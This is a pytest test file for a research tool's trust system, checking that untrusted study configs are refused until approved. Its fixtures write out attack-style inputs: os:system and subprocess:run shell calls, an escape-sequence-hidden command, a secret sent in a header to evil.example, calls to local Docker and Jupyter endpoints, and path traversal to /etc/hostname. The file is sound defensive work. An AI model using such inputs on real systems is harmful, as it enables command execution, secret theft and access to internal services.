"""A study is data: what it would run, read or call is listed, and nothing of it happens before somebody
allows it."""

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from openiir.core.storage import RunFile
from openiir.kit.rankers import RankerName
from openiir.plugin import CallableName, Record, load_callable, trusting
from openiir.runs.settings import Settings
from openiir.runs.study import study_permissions
from openiir.runs.sweep.worker import CellRunner
from openiir.runs.trust import Trust, Untrusted, list_permissions

CODE = """from pathlib import Path
import sys

Path(__file__).parent.with_name("canary").touch()


def rank(view):
    return view.cosine(view.taste)


def recommend(train, collection, seed, **options):
    Path(__file__).parent.with_name("canary").touch()


class Bot:
    def __call__(self, request):
        return "Hello."
"""
FEED = (
    'type = "curated_feed"\nname = "feed"\n[config]\nusers = 2\nweeks = 2\nsessions = 1\nslots = '
    "2\ncandidates = 5\n"
    "audit_users = 1\naudit_items = 5\nitems.per_week = 10\n"
)
RANKED = FEED + 'beside = []\nranker = "code_of_theirs:rank"\n'
LISTS = 'type = "recommender"\nname = "lists"\n[config]\nusers = 2\n'
EVENING = (
    'type = "parlour"\nname = "evening"\npersonas = "people.toml"\n[world]\nsources = ["sea.md"]\n'
    "dimensions = 2\n"
)
RETRIEVER = EVENING + "[world.retriever]\n"
HTTP = EVENING + '[system.x]\nconnector = "http"\nresponse = "text"\n'
STDIO = EVENING + '[system.x]\nconnector = "stdio"\nformat = "text"\n'
PYTHON = EVENING + '[system.x]\nconnector = "python"\n'
TOUCH = f'command = ["{sys.executable}", "code_of_theirs.py"]\n'

HOSTILE = {
    # what it does: (the study, what has to be said)
    "a ranker": (FEED + 'ranker = "code_of_theirs:rank"\n', "code_of_theirs:rank (config.ranker)"),
    "a ranker of the library": (FEED + 'ranker = "os:system"\n', "os:system (config.ranker)"),
    "a ranker beside": (FEED + 'beside = ["code_of_theirs:rank"]\n', "code_of_theirs:rank (config.beside)"),
    "a ranker in the log": (
        FEED + 'evaluate = ["code_of_theirs:rank"]\n',
        "code_of_theirs:rank (config.evaluate)",
    ),
    "a ranker from a step on": (
        FEED + '[[change]]\nstep = 2\nset = { ranker = "code_of_theirs:rank" }\n',
        "code_of_theirs:rank (config.ranker)",
    ),
    "a ranker in a file": (
        FEED + 'beliefs = { file = "code.toml" }\nranker = "code_of_theirs:rank"\n',
        "rank (config.ranker)",
    ),
    "a recommender": (
        LISTS + 'systems = ["code_of_theirs:recommend"]\n',
        "code_of_theirs:recommend (config.systems.by)",
    ),
    "a recommender with options": (
        LISTS
        + 'systems = [{ name = "x", by = "subprocess:run", options = { args = ["touch", "canary"] } }]\n',
        "subprocess:run (config.systems.by)",
    ),
    "a recommender for a first visit": (
        LISTS + 'visitors = { warm_up = "code_of_theirs:recommend" }\n',
        "recommend (config.visitors.warm_up)",
    ),
    "a pipeline of classes": (
        LISTS + 'systems = ["lenskit:pipeline.toml"]\n',
        "pipeline.toml (config.systems.by)",
    ),
    "a function that makes a pipeline": (
        LISTS + 'systems = ["lenskit:code_of_theirs:rank"]\n',
        "code_of_theirs:rank (config",
    ),
    "a callable system": (PYTHON + 'callable = "code_of_theirs:Bot"\n', "code_of_theirs:Bot ([system.x])"),
    "a shell": (
        PYTHON + 'callable = "os:system"\nrequest = "touch canary"\n',
        'os:system, with "touch canary" ([system.x])',
    ),
    "a command": (STDIO + TOUCH, "starts the command"),
    "a command that hides": (
        STDIO + 'command = ["touch", "canary\\u001b[2K\\nnothing to see"]\n',
        "canary\\x1b[2K\\nnothing to see",
    ),
    "a variable for a command": (
        STDIO + TOUCH + 'variables = ["CANARY_KEY"]\n',
        "environment variable CANARY_KEY to that command",
    ),
    "a variable for a host": (
        HTTP + 'url = "https://evil.example/x"\nheaders = { X = "${CANARY_KEY}" }\n',
        "CANARY_KEY to https://evil.example ([system.x], header X)",
    ),
    "a variable for this machine": (
        HTTP + 'url = "http://127.0.0.1:9/"\nheaders = { X = "${CANARY_KEY}" }\n',
        "CANARY_KEY to http://127.0.0.1:9",
    ),
    "a retriever": (
        RETRIEVER + 'connector = "python"\ncallable = "code_of_theirs:Bot"\n',
        "code_of_theirs:Bot ([world.retriever])",
    ),
    "a retriever that is a shell": (
        RETRIEVER + 'connector = "stdio"\nformat = "text"\n' + TOUCH,
        "starts the command",
    ),
    "a retriever of another machine": (
        RETRIEVER
        + 'connector = "http"\nurl = "https://evil.example/x/_search"\nheaders = { X = "${CANARY_KEY}" }\n',
        "CANARY_KEY to https://evil.example ([world.retriever], header X)",
    ),
    "a retriever of this machine": (
        RETRIEVER.replace("[world]", "[world.other]").replace("[world.r", "[world.other.r")
        + 'connector = "http"\nurl = "http://127.0.0.1:9200/x/_search"\n',
        "talks with http://127.0.0.1:9200, a service of this machine ([world.other.retriever])",
    ),
    "a private address": (
        HTTP + 'url = "http://10.0.0.7:8080/turn"\n',
        "talks with http://10.0.0.7:8080, another machine",
    ),
    "a service of this machine": (
        HTTP + 'url = "http://127.0.0.1:2375/containers/create"\n',
        "talks with http://127.0.0.1:2375, a service of this machine",
    ),
    "a service of this machine by its name": (
        HTTP.replace('"http"', '"websocket"') + 'url = "ws://localhost:8888/api/kernels"\n',
        "talks with ws://localhost:8888, a service of this machine",
    ),
    "a ready declaration": (
        EVENING + '[system.x]\nready = "openai-chat"\nurl = "http://[::1]:8080/v1"\nmodel = "m"\n',
        "talks with http://[::1]:8080, a service of this machine",
    ),
    "a host to say goodbye to": (
        HTTP + 'url = "http://127.0.0.1:9/"\n[system.x.close]\nurl = "https://evil.example/bye"\n',
        "talks with https://evil.example",
    ),
}


@pytest.fixture
def place(tmp_path, monkeypatch, with_parlour):
    """Where a stranger's study lies; its module can be imported, and imports of it leave a canary."""
    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "code_of_theirs.py").write_text(CODE)
    (folder / "code.toml").write_text("")
    (folder / "pipeline.toml").write_text("")
    (folder / "sea.md").write_text(
        "Ropes should be checked every day because worn ropes part without a sound.\n"
    )
    (folder / "people.toml").write_text('[[persona]]\nid = "ada"\nname = "Ada"\nbio = "Ada fishes."\n')
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.delitem(sys.modules, "code_of_theirs", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
    monkeypatch.setenv("CANARY_KEY", "secret-of-mine")
    monkeypatch.chdir(folder)
    monkeypatch.setattr("openiir.runs.sweep.execute.engine_named", lambda name: in_this_process)
    return folder


async def in_this_process(folder: Path, settings: Settings, cells: Any, workers: int, told: Any) -> None:
    """Runs the cells of a sweep with what a worker process is told of the settings."""
    runner = CellRunner(folder, Settings.model_validate(settings.model_dump(mode="json")))
    for cell in cells:
        told(await runner.run(cell))


@pytest.mark.parametrize("what", HOSTILE)
def test_a_study_of_a_stranger_runs_nothing(what, place, openiir, tmp_path):
    study, words = HOSTILE[what]
    (place / "study.toml").write_text(study)
    for command in (["run", "--out", tmp_path / "run"], ["audit"], ["sweep", "--out", tmp_path / "sweep"]):
        refused = openiir(command[0], place, *command[1:])
        assert refused.code == 2 and words in refused.err, refused.err
        assert "openiir trust" in refused.err and "secret-of-mine" not in refused.err
    if "system.x" in study:
        assert openiir("doctor", "--system", place / "study.toml").code == 2
    shown = openiir("trust", place)
    assert shown.code == 0 and words in shown.err
    assert not (place.parent / "canary").exists() and "code_of_theirs" not in sys.modules
    assert not (tmp_path / "run").exists() and not (tmp_path / "sweep").exists()


def test_leave_is_remembered_until_a_named_file_changes(place, openiir, tmp_path):
    (place / "study.toml").write_text(RANKED)
    assert openiir("run", place, "--trust", "--out", tmp_path / "once").code == 0
    assert openiir("run", place, "--out", tmp_path / "run").code == 2, "leave for one run is for that run"
    assert openiir("trust", place).code == 0
    ran = openiir("run", place, "--set", "config.weeks=1", "--out", tmp_path / "run")
    assert ran.code == 0, "what changes nothing of what it needs leave for asks for none"
    assert openiir("replay", tmp_path / "run").content == ran.content
    (place / "helper.py").write_text("import os\n")
    for words in (("run", place, "--out", tmp_path / "new"), ("replay", tmp_path / "run")):
        assert openiir(*words).code == 2, "Python files beside the one named may be imported by it"
    assert openiir("trust", tmp_path / "run").code == 0
    assert openiir("replay", tmp_path / "run").content == ran.content


def test_runs_and_sweeps_of_a_stranger_are_studies_too(place, openiir, tmp_path):
    (place / "study.toml").write_text(RANKED + '[sweep]\n"config.epsilon" = [0.1]\n')
    run, sweep = tmp_path / "run", tmp_path / "sweep"
    assert openiir("run", place, "--trust", "--out", run).code == 0
    assert openiir("sweep", place, "--trust", "--out", sweep).code == 0
    for cell in (sweep / "cells").iterdir():
        (cell / "manifest.json").unlink()
    with RunFile.open(run, writable=True) as opened:
        opened.set_state(status="stopped")
    before = (run / "run.db").read_bytes()
    (place.parent / "canary").unlink()
    sys.modules.pop("code_of_theirs")
    for words in (
        ("resume", run),
        ("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork"),
        ("resume", sweep),
    ):
        refused = openiir(*words)
        assert refused.code == 2 and "code_of_theirs:rank (config.ranker)" in refused.err, refused.err
    assert (run / "run.db").read_bytes() == before and not (tmp_path / "fork").exists()
    assert not (place.parent / "canary").exists() and "code_of_theirs" not in sys.modules
    assert (
        openiir("fork", run, "--step", 2, "--set", "epsilon=0.5", "--out", tmp_path / "fork", "--trust").code
        == 0
    )


def test_values_of_a_sweep_are_listed_with_the_study(place, openiir, tmp_path):
    (place / "study.toml").write_text(
        FEED + 'beside = []\n[sweep]\n"config.ranker" = ["code_of_theirs:rank"]\n'
    )
    assert (
        openiir("sweep", place, "--out", tmp_path / "sweep").code == 2
        and not (place.parent / "canary").exists()
    )
    assert "code_of_theirs:rank" in openiir("trust", place).err
    assert openiir("sweep", place, "--out", tmp_path / "sweep").code == 0


def test_leave_for_a_sweep_holds_wherever_one_stands(place, openiir, tmp_path, monkeypatch):
    (place / "study.toml").write_text(RANKED + '[sweep]\n"config.epsilon" = [0.1]\n')
    openiir("trust", place)
    monkeypatch.chdir("/")
    assert (swept := openiir("sweep", place, "--out", tmp_path / "sweep")).code == 0, swept.err
    assert (resumed := openiir("resume", tmp_path / "sweep")).code == 0, resumed.err


def test_settings_allow_by_name_command_and_host(place, openiir, tmp_path):
    settings = tmp_path / "settings.toml"
    settings.write_text(
        '[trust]\ncommands = ["touch canary"]\nhosts = ["evil.example"]\nvariables = '
        '["CANARY_KEY"]\ncallables = ["a:b"]\n'
    )
    allowed = {
        "touch": STDIO + 'command = "touch canary"\n',
        "host": HTTP + 'url = "https://EVIL.example/x"\nheaders = { X = "${CANARY_KEY}" }\n',
        "callable": PYTHON + 'callable = "a:b"\n',
    }
    for name, study in allowed.items():
        (place / "study.toml").write_text(study)
        assert openiir("run", place, "--settings", settings, "--out", tmp_path / name).code == 0, name
    for study in (
        STDIO + 'command = ["touch", "canary", "x"]\n',
        HTTP + 'url = "https://evil.example.org/x"\n',
        PYTHON + 'callable = "a:c"\n',
    ):
        (place / "study.toml").write_text(study)
        assert openiir("run", place, "--settings", settings, "--out", tmp_path / "other").code == 2
    assert not (place.parent / "canary").exists(), "a system that nobody asks is not started"


def test_what_a_callable_is_given_is_part_of_the_leave(place, openiir, tmp_path):
    (place / "study.toml").write_text(PYTHON + 'callable = "os:getenv"\nrequest = "HOME"\n')
    assert openiir("trust", place).code == 0 and openiir("run", place, "--out", tmp_path / "one").code == 0
    (place / "study.toml").write_text(PYTHON + 'callable = "os:getenv"\nrequest = "CANARY_KEY"\n')
    assert openiir("run", place, "--out", tmp_path / "two").code == 2


def test_a_record_of_leave_that_cannot_be_read_is_named(place, openiir, tmp_path):
    (place / "study.toml").write_text(EVENING)
    (tmp_path / "settings" / "openiir").mkdir(parents=True)
    (tmp_path / "settings" / "openiir" / "trusted.json").write_text("[]")
    refused = openiir("run", place, "--out", tmp_path / "run")
    assert refused.code == 2 and "trusted.json cannot be read" in refused.err


@pytest.mark.parametrize(
    "study",
    [
        "asymmetric_memory",
        "panel",
        "curated_feed",
        "feedback_outage",
        "recommender",
        "conversational",
        "coordination_emergent",
        "social_media",
        "multi_generational",
        "tiered_capability",
        "twin_ecosystem",
        "open_web",
    ],
)
def test_reference_studies_need_no_leave(study, openiir):
    assert "needs no leave" in openiir("trust", study).out


@pytest.mark.parametrize(
    ("hosts", "allowed"),
    [
        (["localhost:8000"], True),
        (["[::1]:8000"], True),
        (["localhost:8001", "crs.example"], False),
        (["127.0.0.1"], None),
    ],
)
def test_settings_allow_services_of_this_machine_by_port(hosts, allowed, place, openiir, tmp_path):
    (place / "study.toml").write_text(HTTP + 'url = "http://127.0.0.1:8000/turn"\n')
    settings = tmp_path / "settings.toml"
    settings.write_text(f"[trust]\nhosts = {json.dumps(hosts)}\n")
    ran = openiir("run", place, "--settings", settings, "--out", tmp_path / "run")
    assert ran.code == (0 if allowed else 2), ran.err
    assert ("allowed by its port" in ran.err) == (allowed is None)


def test_settings_allow_a_port_of_another_machine(place, openiir, tmp_path):
    settings = tmp_path / "settings.toml"
    settings.write_text('[trust]\nhosts = ["crs.example:8443"]\n')
    for url, code in (("https://crs.example:8443/x", 0), ("https://crs.example/x", 2)):
        (place / "study.toml").write_text(HTTP + f'url = "{url}"\n')
        assert openiir("run", place, "--settings", settings, "--out", tmp_path / f"{code}").code == code


@pytest.mark.parametrize(
    "change",
    ['method = "DELETE"', 'url = "http://127.0.0.1:9/other"', "request = {}", 'headers = { A = "b" }'],
)
def test_leave_for_a_host_is_for_the_declared_exchange(change, place, openiir, tmp_path):
    lone = place.parent / "lone.toml"
    urls = "" if "url" in change else 'url = "http://127.0.0.1:9/x"\n'
    lone.write_text('[system.x]\nconnector = "http"\nresponse = "text"\nurl = "http://127.0.0.1:9/x"\n')
    assert openiir("trust", lone).code == 0
    assert openiir("doctor", "--system", lone).code == 1, "it is asked, and does not answer"
    lone.write_text(f'[system.x]\nconnector = "http"\nresponse = "text"\n{urls}{change}\n')
    assert openiir("doctor", "--system", lone).code == 2


CHANGES: dict[str, Callable[[Path], Any]] = {
    "the module": lambda place: (place / "bots" / "crs.py").write_text("print('other')\n"),
    "a file of no suffix": lambda place: (place / "data").write_text("other"),
    "a file beside": lambda place: (place / "bots" / "json.py").write_text(""),
    "a compiled file": lambda place: (
        (place / "bots" / "__pycache__").mkdir(),
        (place / "bots" / "__pycache__" / "crs.cpython-311.pyc").write_bytes(b"x"),
    ),
    "a hidden file": lambda place: (place / ".hidden").write_text(""),
    "code beside a run": lambda place: (
        (place / "bots" / "run.db").touch(),
        (place / "bots" / "crs.py").write_text(""),
    ),
    "code among tables of a run": lambda place: (place / "runs" / "one" / "tables" / "x.py").write_text(""),
    "a link in the place of a run's file": lambda place: (
        (place / "runs" / "one" / "live.json").unlink(),
        (place / "runs" / "one" / "live.json").symlink_to(place / "data"),
    ),
    "the study": lambda place: (place / "study.toml").write_text((place / "study.toml").read_text() + "\n"),
}
KEPT: dict[str, Callable[[Path], Any]] = {
    "a run": lambda place: (place / "runs" / "one" / "live.json").write_text("{}"),
    "a table of a run": lambda place: (place / "runs" / "one" / "tables" / "a.parquet").write_bytes(b"x"),
    "what git keeps": lambda place: (place / ".git" / "index").write_text("x"),
}


@pytest.mark.parametrize("command", ['["python", "-m", "bots.crs"]', '["bash", "-c", "exec python bot.py"]'])
@pytest.mark.parametrize("change", [*CHANGES, *KEPT])
def test_a_permission_covers_the_whole_folder_of_the_study(
    change: str, command: str, place: Path, openiir: Callable[..., Any]
) -> None:
    (place / "bots").mkdir()
    (place / "bots" / "crs.py").write_text("print('hello')\n")
    (place / "data").write_text("some")
    (place / ".git").mkdir()
    (place / "runs" / "one" / "tables").mkdir(parents=True)
    for name in ("run.db", "live.json"):
        (place / "runs" / "one" / name).touch()
    (place / "study.toml").write_text(STDIO + f"command = {command}\n")
    before = permissions_in(place)
    assert before == permissions_in(place)
    (CHANGES | KEPT)[change](place)
    assert (permissions_in(place) == before) == (change in KEPT)


def permissions_in(place: Path) -> list[str]:
    return [one.digest for one in study_permissions(str(place))]


@pytest.mark.parametrize("command", ['["python", "-m", "bots.crs"]', '["bash", "-c", "exec python bot.py"]'])
def test_a_lone_study_covers_the_files_that_it_names(
    command: str, place: Path, openiir: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    lone, bots = place / "lone.toml", place / "bots"
    bots.mkdir()
    for code in (bots / "crs.py", place / "bot.py"):
        code.write_text("print('hello')\n")
    lone.write_text(STDIO + f"command = {command}\n")
    before = [one.digest for one in study_permissions(str(lone))]
    (place / "thesis.txt").write_text("three years")
    assert [one.digest for one in study_permissions(str(lone))] == before
    for code in (bots / "crs.py", place / "bot.py"):
        code.write_text("print('other')\n")
        assert [one.digest for one in study_permissions(str(lone))] != before


def test_a_started_study_leaves_no_compiled_files(place, openiir, monkeypatch):
    """So that what a permitted study executes does not make its permission void."""
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    (place / "bot.py").write_text(
        "import code_of_theirs, sys\nfor line in sys.stdin: print('hello', flush=True)\n"
    )
    (place / "study.toml").write_text(STDIO + f'command = ["{sys.executable}", "bot.py"]\n')
    with trusting("code_of_theirs:rank"):
        load_callable("code_of_theirs:rank")
    assert openiir("doctor", "--system", place / "study.toml", "--trust").code == 0
    assert not list(place.rglob("*.pyc"))


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda place: os.truncate(place / "code.toml", 30 * 2**30), "more than 1 GB"),
        (lambda place: (place / "more").symlink_to("/usr"), "a link to a folder outside"),
    ],
)
def test_a_folder_that_cannot_be_covered_is_refused(make, words, place, openiir):
    (place / "study.toml").write_text(STDIO + TOUCH)
    os.mkfifo(place / "pipe")
    assert openiir("trust", place).code == 0, "of what is no file its kind is covered"
    make(place)
    refused = openiir("trust", place)
    assert refused.code == 2 and words in refused.err


class Config(Record):
    """A plug-in's keys: it brings a scorer of its own, and lets studies name others."""

    scorer: CallableName = "json:loads"
    others: dict[str, tuple[RankerName, ...]] = {}


def test_a_plug_in_brings_its_own_callables_and_asks_for_others(place):
    class Type:
        reference = None

    Type.Config = Config  # type: ignore[attr-defined]

    def needed(**values):
        found = list_permissions(Type, [Config(**values)], {}, place)  # type: ignore[arg-type]
        try:
            Trust().check(found, "a study")
        except Untrusted as refused:
            return [one.name for one in refused.permissions]
        return []

    assert needed() == []
    assert needed(scorer="json:dumps", others={"a": ("history", "x:y")}) == ["json:dumps", "x:y"]
    (place / "json.py").write_text("")
    assert needed() == ["json:loads"], "a file of that name in the study's folder may be what is imported"


def test_code_that_a_type_did_not_declare_is_not_imported(place):
    from openiir.plugin import InputError

    with pytest.raises(InputError, match="not trusted here"):
        load_callable("code_of_theirs:rank")
    assert not (place.parent / "canary").exists()
    with trusting("code_of_theirs:rank"):
        assert load_callable("code_of_theirs:rank").__name__ == "rank"
    with pytest.raises(InputError, match="not trusted here"):
        load_callable("code_of_theirs:rank")


@pytest.mark.parametrize(
    ("lines", "words"),
    [
        ('config.shape = { file = "../shape.toml" }', "the file ../shape.toml lies outside"),
        ('personas = "/etc/hostname"', "personas /etc/hostname lies outside"),
        ('personas = "${CANARY_KEY}/p.toml"', "personas ${CANARY_KEY}/p.toml: a path may begin with"),
        ('personas = "linked.toml"', "personas linked.toml lies outside"),
        ('world.retriever.run = "../shape.toml"', "the TREC run ../shape.toml lies outside"),
    ],
)
def test_paths_of_a_study_stay_in_its_folder(lines, words, place, openiir, tmp_path):
    (tmp_path / "shape.toml").write_text("")
    (place / "linked.toml").symlink_to("/etc/hostname")
    (place / "study.toml").write_text(f'type = "panel"\nconfig.topic = "Ropes should be checked"\n{lines}\n')
    refused = openiir("run", place, "--out", tmp_path / "run")
    assert refused.code == 2 and words in refused.err and "secret-of-mine" not in refused.err, refused.err


def test_a_command_gets_the_variables_declared_for_it_alone(place, openiir):
    (place / "tell.py").write_text(
        "import json, os, sys\nfor line in sys.stdin: print(json.dumps(sorted(os.environ)), flush=True)\n"
    )
    declared = (
        f'connector = "stdio"\nformat = "text"\ncommand = ["{sys.executable}", "tell.py"]\ntimeout = 10\n'
    )
    (place / "quiet.toml").write_text(declared)
    (place / "told.toml").write_text(declared + 'variables = ["CANARY_KEY"]\n')
    quiet, told = (
        openiir("doctor", "--system", place / f"{name}.toml", "--trust").out for name in ("quiet", "told")
    )
    assert "PATH" in quiet and "CANARY_KEY" not in quiet and "XDG_CONFIG_HOME" not in quiet
    assert "CANARY_KEY" in told


def test_a_key_in_the_place_of_an_endpoint_is_not_repeated(place, openiir, tmp_path):
    settings = tmp_path / "settings.toml"
    for line in ('endpoint = "sk-canary-1234"', '[endpoint]\nurl = "sk-canary-1234"'):
        settings.write_text(line)
        refused = openiir("doctor", "--settings", settings)
        assert refused.code == 2 and "canary" not in refused.err and "http://localhost" in refused.err, (
            refused.err
        )


def test_leave_is_kept_with_its_words(place, openiir, tmp_path):
    (place / "study.toml").write_text(HOSTILE["a shell"][0])
    openiir("trust", place)
    kept = json.loads((tmp_path / "settings" / "openiir" / "trusted.json").read_text())
    assert list(kept.values()) == [
        'imports and calls the Python code os:system, with "touch canary" ([system.x])'
    ]
